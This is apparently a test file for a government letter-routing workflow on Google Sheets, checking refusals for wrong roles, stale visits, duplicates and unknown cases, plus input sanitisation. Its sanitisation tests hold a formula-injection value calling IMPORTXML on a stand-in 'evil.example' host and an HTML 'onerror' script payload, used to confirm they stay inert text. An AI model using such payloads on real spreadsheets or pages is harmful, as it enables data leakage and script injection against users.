import {
  approve,
  complete,
  delivery,
  letter,
  monitoring,
  numberOf,
  openCase,
  order,
  receipt,
  returned,
} from '../../workspace/samples';
import { email, Story } from '../support/story';
import { caseAt, letterUrut } from './steps';

describe('what is not allowed is refused with a reason, and nothing is recorded', () => {
  let story: Story;
  beforeAll(async () => {
    story = await Story.begin('2026-11-23T07:30');
  });
  afterAll(() => story.end());

  const unchanged = async (act: () => Promise<{ code: string; message: string }>) => {
    const log = story.decisions().length;
    const files = story.world.files().filter((file) => !file.trashed).length;
    const refusal = await act();
    expect(story.decisions()).toHaveLength(log);
    expect(story.world.files().filter((file) => !file.trashed)).toHaveLength(files);
    expect(refusal.message).toMatch(/^[A-Z].*\.$/s);
    return refusal;
  };

  test('a role whose turn it is not', async () => {
    const { no } = await caseAt(story, '3');
    const refusal = await unchanged(() => story.refused('SEKDA', no, approve()));
    expect(refusal.code).toBe('WRONG_ROLE');
    expect(refusal.message).toContain('Kepala Bagian Organisasi');
  });

  test('a person without a role', async () => {
    const { no } = await caseAt(story, '3');
    expect((await unchanged(() => story.refused('TAMU', no, approve()))).code).toBe('NO_ROLE');
    expect((await unchanged(() => story.refused('TAMU', null, openCase('Coba')))).code).toBe('NO_ROLE');
  });

  test('a person whom Google does not name', async () => {
    const { no } = await caseAt(story, '3');
    const refusal = await unchanged(async () => {
      story.world.hideIdentity(email('KABAG'), true);
      try {
        return await story.refused('KABAG', no, approve(), { visit: 3 });
      } finally {
        story.world.hideIdentity(email('KABAG'), false);
      }
    });
    expect(refusal.code).toBe('IDENTITY_BLANK');
  });

  test('a case that has moved on since the person looked: where it is now, and the fresh case', async () => {
    const { no } = await caseAt(story, '4');
    const answer = await story.try('KABAG', no, approve(), { visit: 3 });
    expect(answer).toMatchObject({ ok: false, code: 'VISIT_MOVED', view: { present: { step: 4 } } });
    expect(answer.message).toContain('Pemeriksaan Asisten');
  });

  test('a second decision on the same visit', async () => {
    const { no } = await caseAt(story, '3');
    const seen = 3;
    await story.act('KABAG', no, approve());
    expect(
      (
        await unchanged(() =>
          story.refused('KABAG', no, returned('Terlambat berubah pikiran.'), { visit: seen }),
        )
      ).code,
    ).toBe('VISIT_MOVED');
  });

  test('the same press of the button twice: the first answer, one decision', async () => {
    const { no } = await caseAt(story, '3');
    const first = await story.try('KABAG', no, approve(), { commandId: 'tekan-sekali-1' });
    const log = story.decisions().length;
    const second = await story.try('KABAG', no, approve(), { commandId: 'tekan-sekali-1', visit: 3 });
    expect(first.ok && second.ok).toBe(true);
    expect(second.message).toContain('tidak dijalankan dua kali');
    expect(story.decisions()).toHaveLength(log);
  });

  test('the same opening sent twice makes one case', async () => {
    const count = story.tab('REGISTER').length;
    const one = await story.try('KABAG', null, openCase('Dibuka sekali'), { commandId: 'buka-sekali-1' });
    const two = await story.try('KABAG', null, openCase('Dibuka sekali'), { commandId: 'buka-sekali-1' });
    expect([one.view?.no, two.view?.no]).toEqual([count + 1, count + 1]);
    expect(story.tab('REGISTER')).toHaveLength(count + 1);
  });

  test('a return without a note', async () => {
    const { no } = await caseAt(story, '3');
    expect((await unchanged(() => story.refused('KABAG', no, returned('   ')))).code).toBe('NOTE_MISSING');
  });

  test('delivery before the letter has its number', async () => {
    const { no } = await caseAt(story, 'gate');
    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DINKES'], '2026-11-24')))).code).toBe(
      'GATE_CLOSED',
    );
    expect((await unchanged(() => story.refused('KATIM', no, complete))).code).toBe('GATE_CLOSED');
  });

  test('a number that another letter has already', async () => {
    const first = await caseAt(story, '6');
    const { no } = await caseAt(story, 'gate');
    const nomor = ` ${letterUrut(first.no)} / 000.8.3.4/xi/2026`;
    const number = { ...numberOf(0, '2026-11-23'), nomor };
    const refusal = await unchanged(() => story.refused('KATIM', no, { type: 'recordNumber', number }));
    expect(refusal.code).toBe('NUMBER_DUPLICATE');
    expect(refusal.message).toContain(first.kode);
  });

  test('closing a step while a Perangkat Daerah is missing names it', async () => {
    const { no } = await story.act('KABAG', null, openCase('Dua sasaran'));
    await story.act('KABAG', no, order(['DINKES', 'KEC-CILEDUG']));
    await story.act('KATIM', no, letter('2026-11-26'));
    for (const who of ['KABAG', 'ASISTEN', 'SEKDA']) await story.act(who, no, approve());
    await story.act('KATIM', no, { type: 'recordNumber', number: numberOf(901, '2026-11-23') });
    await story.act('KATIM', no, delivery(['DINKES'], '2026-11-24'));
    const refusal = await unchanged(() => story.refused('KATIM', no, complete));
    expect(refusal.code).toBe('ROWS_OPEN');
    expect(refusal.message).toContain('Kecamatan Ciledug');
    expect((await unchanged(() => story.refused('KATIM', no, delivery(['DISHUB'], '2026-11-24')))).code).toBe(
      'PD_NOT_TARGET',
    );
    expect((await unchanged(() => story.refused('KATIM', no, receipt('DINKES', '2026-11-24')))).code).toBe(
      'ACTION_NOT_HERE',
    );
    expect(
      (await unchanged(() => story.refused('ANALIS', no, monitoring('DINKES', '2026-11-24')))).code,
    ).toBe('WRONG_ROLE');
  });

  test('a Perangkat Daerah that does not exist', async () => {
    const { no } = await story.act('KABAG', null, openCase('Sasaran keliru'));
    const refusal = await unchanged(() => story.refused('KABAG', no, order(['DINAS-KHAYAL'])));
    expect(refusal.code).toBe('PD_UNKNOWN');
    expect(refusal.message).toContain('DINAS-KHAYAL');
  });

  test('cancelling: by the Kabag with a reason, until the letter is signed', async () => {
    const early = await caseAt(story, '4');
    expect(
      (await unchanged(() => story.refused('ASISTEN', early.no, { type: 'cancel', reason: 'Coba' }))).code,
    ).toBe('WRONG_ROLE');
    const view = await story.act('KABAG', early.no, {
      type: 'cancel',
      reason: 'Kegiatan digabung dengan kasus lain.',
    });
    expect(view.status).toBe('BATAL');
    expect((await unchanged(() => story.refused('ASISTEN', early.no, approve(), { visit: 4 }))).code).toBe(
      'CASE_ENDED',
    );
    const signed = await caseAt(story, 'gate');
    expect(
      (await unchanged(() => story.refused('KABAG', signed.no, { type: 'cancel', reason: 'Terlambat.' })))
        .code,
    ).toBe('CANCEL_TOO_LATE');
  });

  test('a case that does not exist', async () => {
    expect((await unchanged(() => story.refused('KABAG', 999, approve(), { visit: 1 }))).code).toBe(
      'CASE_UNKNOWN',
    );
    expect((await unchanged(() => story.refused('KABAG', 9999, approve(), { visit: 1 }))).code).toBe(
      'CASE_UNKNOWN',
    );
  });

  test('a call that does not keep to the contract names the place', async () => {
    const execution = await story.world.callFromPage(
      'runCommand',
      [{ registerId: story.registerId, commandId: 'x', no: 1, visit: 1, command: { type: 'constructor' } }],
      email('KABAG'),
      story.registerId,
    );
    expect(execution.value).toMatchObject({ ok: false, code: 'CONTRACT' });
  });

  test('a timer called by name from a page by anybody', async () => {
    const log = story.decisions().length;
    for (const fn of [
      'checkLateness',
      'updateDashboard',
      'sendOutbox',
      'checkIntegrity',
      'followPejabat',
      'sendWeeklySummary',
      'sendDigests',
      'sweepOrphans',
    ]) {
      const execution = await story.world.callFromPage(fn, [], email('TAMU'), story.registerId);
      expect(execution.ok).toBe(false);
    }
    expect(story.decisions()).toHaveLength(log);
  });
});

describe('what people write stays text', () => {
  let story: Story;
  beforeAll(async () => {
    story = await Story.begin('2026-11-23T07:30');
  });
  afterAll(() => story.end());

  test.each(['=1+1', '=IMPORTXML("http://evil.example","//x")', '+62 21', '-5', '@nama', "'0812"])(
    'a note %s',
    async (note) => {
      const { no } = await caseAt(story, '3');
      await story.act('KABAG', no, returned(note));
      const cells = story.world.cells(story.registerId, 'Langkah').flat();
      // A sign that nobody sees keeps it text in a CSV, too.
      const kept = /^[=+\-@]/.test(note) ? `\u200b${note}` : note;
      const found = cells.filter((cell) => cell.value === kept);
      expect(found.length).toBeGreaterThan(0);
      expect(found.every((cell) => cell.formula === null && cell.text === kept)).toBe(true);
    },
  );

  test('HTML in a name reaches mail and page as text', async () => {
    const judul = '<img src=x onerror=alert(1)> & {{nama_sekda}} $1 \\n';
    const view = await story.act('KABAG', null, openCase(judul));
    expect(view.judul).toBe(judul);
    await story.act('KABAG', view.no, order(['DINKES']));
    await story.fire('sendOutbox');
    const mail = story.mailsTo('KATIM').pop();
    expect(mail?.html).not.toContain('<img');
    expect(mail?.html).toContain('&lt;img');
    const slip = story.world.files().find((file) => file.name === `${view.kode} - Lembar disposisi - v1`);
    const text = Buffer.from(await story.world.download(slip?.id ?? '', 'text/plain')).toString('utf8');
    expect(text).not.toContain('[object');
  });
});
